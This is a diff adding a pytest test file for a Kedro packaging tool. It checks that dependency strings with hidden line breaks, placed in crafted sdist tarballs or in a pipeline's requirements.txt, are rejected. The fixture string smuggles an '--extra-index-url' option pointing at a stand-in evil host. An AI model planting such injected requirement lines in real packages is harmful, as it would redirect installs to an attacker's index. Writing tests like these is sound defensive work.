@@ -1,0 +1,140 @@
+"""Hostile inputs (issue 8, security items): nothing from a tarball, a lock file or a command line
+becomes a line of a file or a path unvalidated; every hostile input gives one ``Error:`` line and
+writes nothing."""
+
+from __future__ import annotations
+
+import io
+import tarfile
+from collections.abc import Mapping
+from pathlib import Path
+
+import pytest
+from kedro_venvs import repo_env as _repo_env
+from kedro_venvs import run
+from projects import add_pipeline, make_project, tree_snapshot
+
+#: What ``str.splitlines()`` (and so pip's requirements-file reader) splits on.
+LINE_BREAKS = ["\n", "\r", "\v", "\f", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029"]
+SMUGGLED = "foo @ https://example.invalid/f.tar.gz{sep}--extra-index-url=http://evil.invalid/simple"
+
+
+def write_sdist(path: Path, members: Mapping[str, str | bytes], top: str = "evil-0.1") -> Path:
+    """A ``.tar.gz`` with ``members`` (relative to ``top``) as regular files."""
+    with tarfile.open(path, "w:gz", format=tarfile.PAX_FORMAT) as tar:
+        for rel, content in members.items():
+            data = content.encode("utf-8") if isinstance(content, str) else content
+            info = tarfile.TarInfo(f"{top}/{rel}" if top else rel)
+            info.size, info.mode = len(data), 0o644
+            tar.addfile(info, io.BytesIO(data))
+    return path
+
+
+def pkg_info(*, name: str = "evil", version: str = "0.1", requires: tuple[str, ...] = ()) -> str:
+    deps = "".join(f"Requires-Dist: {r}\n" for r in requires)
+    return f"Metadata-Version: 2.2\nName: {name}\nVersion: {version}\n{deps}"
+
+
+def toml_basic(value: str) -> str:
+    """``value`` as a TOML basic string, every non-ASCII or control character escaped."""
+    out = []
+    for char in value:
+        if char in '"\\' or not (" " <= char <= "~"):
+            out.append(f"\\u{ord(char):04X}")
+        else:
+            out.append(char)
+    return '"' + "".join(out) + '"'
+
+
+def one_error_line(stderr: str) -> str:
+    lines = [line for line in stderr.splitlines() if line.strip()]
+    assert len(lines) == 1 and lines[0].startswith("Error: "), stderr
+    return lines[0]
+
+
+@pytest.fixture
+def consumer(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """A Kedro project (package ``consumer_pkg``) as the CWD."""
+    root = make_project(tmp_path / "consumer", package="consumer_pkg")
+    monkeypatch.chdir(root)
+    return root
+
+
+# --------------------------------------------------------------------------- item 1
+
+
+def test_the_oldest_allowed_packaging_accepts_a_smuggled_option(
+    oldest_packaging_python: Path, tmp_path: Path
+) -> None:
+    """The guard below is ours: the oldest ``packaging`` we allow parses these as one line."""
+    code = (
+        "import sys\n"
+        "from packaging.requirements import Requirement\n"
+        f"for sep in {LINE_BREAKS!r}:\n"
+        f"    assert sep in str(Requirement({SMUGGLED!r}.format(sep=sep))), repr(sep)\n"
+    )
+    run([oldest_packaging_python, "-c", code], cwd=tmp_path, env=_repo_env())
+
+
+def _smuggling_sdist(folder: Path, where: str, sep: str) -> Path:
+    requirement = SMUGGLED.format(sep=sep)
+    members: dict[str, str | bytes] = {"evil/__init__.py": ""}
+    if where == "PKG-INFO":
+        members["PKG-INFO"] = pkg_info(requires=(requirement,))
+    elif where == "pyproject":
+        members["PKG-INFO"] = pkg_info()
+        members["pyproject.toml"] = (
+            f'[project]\nname = "evil"\nversion = "0.1"\n'
+            f"dependencies = [{toml_basic(requirement)}]\n"
+        )
+    else:  # egg-info requires.txt
+        members["PKG-INFO"] = pkg_info()
+        members["evil.egg-info/requires.txt"] = requirement + "\n"
+    return write_sdist(folder / "evil-0.1.tar.gz", members)
+
+
+# PKG-INFO is an email header block: \n and \r end the header line there.
+SMUGGLING_CASES = [("pyproject", sep) for sep in LINE_BREAKS] + [
+    ("PKG-INFO", sep) for sep in LINE_BREAKS if sep not in "\r\n"
+]
+
+
+@pytest.mark.parametrize(
+    ("where", "sep"), [*SMUGGLING_CASES, ("requires.txt", "\u2028"), ("requires.txt", "\f")]
+)
+def test_a_requirement_with_a_line_break_is_refused_with_the_oldest_packaging(
+    oldest_packaging_python: Path, consumer: Path, tmp_path: Path, where: str, sep: str
+) -> None:
+    archive = _smuggling_sdist(tmp_path, where, sep)
+    before = tree_snapshot(consumer, with_state=True)
+    proc = run(
+        [oldest_packaging_python, "-m", "micropkg_tasks", "pull", archive],
+        cwd=consumer,
+        env=_repo_env(),
+        check=False,
+    )
+    assert proc.returncode == 1, proc.stdout + proc.stderr
+    error = one_error_line(proc.stderr)
+    assert "evil.invalid" in error or "requirement" in error.lower()
+    assert not (consumer / "requirements.in").exists()
+    assert tree_snapshot(consumer, with_state=True) == before
+
+
+def test_a_line_break_in_a_micro_package_requirements_txt_is_refused_at_package_time(
+    oldest_packaging_python: Path, consumer: Path
+) -> None:
+    add_pipeline(consumer, "beta", "consumer_pkg")
+    reqs = consumer / "src/consumer_pkg/pipelines/beta/requirements.txt"
+    reqs.write_text("pandas\n" + SMUGGLED.format(sep="\u2028") + "\n", encoding="utf-8")
+    before = tree_snapshot(consumer, with_state=True)
+    proc = run(
+        [oldest_packaging_python, "-m", "micropkg_tasks", "package", "pipelines.beta"],
+        cwd=consumer,
+        env=_repo_env(),
+        check=False,
+    )
+    assert proc.returncode == 1, proc.stdout + proc.stderr
+    error = one_error_line(proc.stderr)
+    assert "src/consumer_pkg/pipelines/beta/requirements.txt line 3" in error
+    assert tree_snapshot(consumer, with_state=True) == before
+    assert not (consumer / "dist").exists()
